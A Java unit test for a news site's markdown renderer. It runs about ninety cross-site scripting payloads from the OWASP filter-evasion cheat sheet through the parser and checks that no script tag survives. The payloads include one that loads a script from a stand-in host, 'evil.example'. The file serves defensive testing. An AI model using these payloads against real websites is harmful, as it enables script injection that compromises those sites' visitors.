package news.gisa.text.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Script injections of the kinds that the OWASP cheat sheet on filter evasion tells of. */
class MarkdownInjectionTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script/src=data:,alert(1)>",
                "<<script>alert(1)//<</script>",
                "<script\n>alert(1)</script\n>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"x` `<script>alert(1)</script>\"` `>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<img src=javascript:alert(String.fromCharCode(88))>",
                "<img src=&#106;&#97;&#118;&#97;script:alert(1)>",
                "<svg/onload=alert(1)>",
                "<svg><animate onbegin=alert(1) attributeName=x>",
                "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
                "<body onload=alert(1)>",
                "<iframe src=javascript:alert(1)></iframe>",
                "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
                "<object data=javascript:alert(1)>",
                "<embed src=javascript:alert(1)>",
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                "<a href=\"jav\nascript:alert(1)\">x</a>",
                "<form action=javascript:alert(1)><button>x",
                "<input autofocus onfocus=alert(1)>",
                "<details open ontoggle=alert(1)>",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                "<link rel=stylesheet href=javascript:alert(1)>",
                "<style>@import'javascript:alert(1)';</style>",
                "<div style=\"width:expression(alert(1))\">",
                "<base href=javascript:alert(1)//>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<!-- --!><script>alert(1)</script>",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version=\"1.0\"?><script>alert(1)</script>",
                "<!ENTITY x \"<script>\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<textarea></textarea><script>alert(1)</script>",
                "<b><b onmouseover=alert(1)>x</b>",
                "\"><script>alert(1)</script>",
                "'-alert(1)-'",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&#60;script&#62;alert(1)&#60;/script&#62;",
                "\\<script>alert(1)\\</script>",
                "`<script>alert(1)</script>`",
                "```\n<script>alert(1)</script>\n```",
                "```\"><script>alert(1)</script>\nx\n```",
                "    <script>alert(1)</script>",
                "# <script>alert(1)</script>",
                "- <script>alert(1)</script>",
                "> <script>alert(1)</script>",
                "*<script>alert(1)</script>*",
                "[x](javascript:alert(1))",
                "[x](javascript://example.org/%0Aalert(1))",
                "[x]( javascript:alert(1))",
                "[x](<javascript:alert(1)>)",
                "[x](<java\tscript:alert(1)>)",
                "[x](<&#x19;javascript:alert(1)>)",
                "[x](<\u00A0javascript:alert(1)>)",
                "[x](<\u2028javascript:alert(1)>)",
                "[x](JAVASCRIPT&#58;alert(1))",
                "[x](javascript&#0000058alert(1))",
                "[x](javascript&colon;alert&lpar;1&rpar;)",
                "[x](feed:javascript:alert(1))",
                "[x](view-source:javascript:alert(1))",
                "[x](blob:https://example.org/1)",
                "[x](livescript:a)",
                "[x](data:text/html,<script>alert(1)</script>)",
                "[x](https://example.org/\"onmouseover=\"alert(1))",
                "[x](https://example.org \"t\\\" onmouseover=\\\"alert(1)\")",
                "[x](/ 't\" onmouseover=\"alert(1)')",
                "[x][1]\n\n[1]: javascript:alert(1)",
                "[x]\n\n[x]: <javascript:alert(1)> \"t\"",
                "<javascript:alert(1)>",
                "<JAVASCRIPT:alert(1)>",
                "<data:text/html,x>",
                "![x](javascript:alert(1))",
                "![x](vbscript:msgbox)",
                "![x](data:image/svg+xml;base64,PHN2Zz4=)",
                "![\"onerror=\"alert(1)](/x)",
                "![x](/x\"onerror=\"alert(1))",
                "![x](/x \"\\\"onerror=\\\"alert(1)\")",
                "![<script>alert(1)</script>](/x \"<script>alert(1)</script>\")",
                "[![x](javascript:alert(1))](javascript:alert(1))",
                "::ad{slot=\"><script>alert(1)</script>\"}",
                "::ad{slot=\"' onclick='alert(1)\"}",
                "::ad{onclick=\"alert(1)\"}",
                "::embed{url=\"javascript:alert(1)\"}",
                "::embed{url=\"https://x.example/'><script>alert(1)</script>\"}",
                "::embed{url=\"https://x.example/&quot; onclick=&quot;alert(1)\"}",
                "::<script>alert(1)</script>",
                "::x{<script>alert(1)</script>"
            })
    void htmlStaysWithinItsGrammar(String markdown) {
        MarkdownBody body = MarkdownBody.parse(markdown);

        HtmlGrammar.check(body.html());
        assertThat(body.html()).doesNotContainIgnoringCase("<script");
    }
}
